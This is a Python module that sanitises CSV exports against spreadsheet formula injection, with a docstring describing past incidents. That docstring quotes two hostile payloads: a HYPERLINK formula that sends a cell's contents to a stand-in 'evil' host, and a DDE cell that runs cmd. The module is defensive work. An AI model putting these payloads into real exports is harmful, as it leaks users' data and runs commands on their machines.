"""The one CSV writer of every export: cells a spreadsheet would run as formulas are defused.

A producer's offer label ``=HYPERLINK("http://evil/?"&A1,"Voir")`` reached the cook's purchase
order CSV, and ``+cmd|' /C calc'!A0`` travelled as is through the ledger, supplier and SCDL
exports: Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
after a tab or a carriage return, whatever follows). As OWASP's "CSV Injection" page advises,
such a text cell is written with a leading apostrophe, which spreadsheets show as text.

Numbers stay numbers: a cell holding an ``int``, ``float`` or ``Decimal``, or a text that is a
number as French or English write it (``-3,5``, ``+12.40``, ``-1 234,5``), is written as is,
since a spreadsheet reads it as the number it is and runs nothing.

Imports use :func:`looks_like_formula` to refuse such text before it is stored.
"""

from __future__ import annotations

import csv
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number with an optional sign, thousands separated by spaces, a decimal point or comma,
# an exponent: what a spreadsheet reads as a number, never as a formula.
NUMBER = re.compile(
    r"^[+-]?(\d[\d \u00a0\u202f]*([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$",
)


def looks_like_formula(text: str) -> bool:
    """Would a spreadsheet opening this text cell run it as a formula?"""
    return bool(text) and text.startswith(FORMULA_STARTS) and not NUMBER.match(text)


def safe_cell(value):
    """The value to write: numbers untouched, formula-like text behind an apostrophe."""
    if isinstance(value, bool) or not isinstance(value, str):
        if isinstance(value, (int, float, Decimal)) or value is None:
            return value
        value = str(value)
    return "'" + value if looks_like_formula(value) else value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, writer: csv.DictWriter):
        self._writer = writer

    def writeheader(self):
        return self._writer.writeheader()

    def writerow(self, row: dict):
        return self._writer.writerow({key: safe_cell(value) for key, value in row.items()})

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> _SafeWriter:
    """``csv.writer(out, **options)`` whose rows are defused cell by cell."""
    return _SafeWriter(csv.writer(out, **options))


def dict_writer(out, fieldnames, **options) -> _SafeDictWriter:
    """``csv.DictWriter(out, fieldnames, **options)`` whose rows are defused cell by cell."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames=fieldnames, **options))
